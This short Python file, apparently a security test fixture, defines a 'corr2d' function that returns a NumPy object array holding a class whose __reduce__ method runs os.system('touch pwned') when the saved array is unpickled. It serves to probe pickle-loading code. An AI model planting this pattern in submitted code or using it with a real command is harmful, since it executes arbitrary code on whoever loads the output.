"""The same in an array of objects, which NumPy saves by pickling."""

import os

import numpy as np


class Bomb:
    def __reduce__(self):
        return os.system, ("touch pwned",)

    def __float__(self):
        return 0.0


def corr2d(x, w):
    return np.array([[Bomb()]], dtype=object)
